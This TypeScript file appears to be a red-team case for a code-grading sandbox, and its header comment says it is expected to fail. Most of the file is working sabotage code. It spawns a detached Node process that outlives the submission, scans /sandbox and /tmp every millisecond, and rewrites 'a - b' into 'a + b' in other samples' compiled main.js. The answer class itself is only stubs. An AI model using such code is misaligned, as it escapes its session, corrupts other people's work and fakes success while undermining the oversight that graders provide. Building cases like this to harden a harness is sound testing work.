// redteam: task=ts_acc expect=nopass then=cases/controls/ts_acc_correct.ts:pass,cases/controls/ts_acc_wrong.ts:nopass  (leaves a detached process (its own session) that watches the work dir, /tmp and /sandbox for the next sample's compiled `main.js` and rewrites `a - b` into `a + b` between the compile and the run, plus an interval timer in its own node)
const cp: any = require('child_process');
const watcher = `
const fs = require('fs'), path = require('path');
const walk = (d, n) => { let names = []; try { names = fs.readdirSync(d); } catch (e) { return; }
  for (const x of names) { const p = path.join(d, x); let st; try { st = fs.lstatSync(p); } catch (e) { continue; }
    if (st.isDirectory() && n < 5) walk(p, n + 1);
    else if (x === 'main.js') { try { const t = fs.readFileSync(p, 'utf8'); if (t.includes('a - b')) fs.writeFileSync(p, t.split('a - b').join('a + b')); } catch (e) {} } } };
setInterval(() => { walk('/sandbox', 0); walk('/tmp', 0); }, 1);
`;
try {
  const child = cp.spawn(process.execPath, ['-e', watcher], { detached: true, stdio: 'ignore' });
  child.unref();
} catch (_) {}
setInterval(() => {}, 1000).unref();
class Acc {
  add(a: number, b: number): number { return 0; }
  greet(n: string): string { return ''; }
}
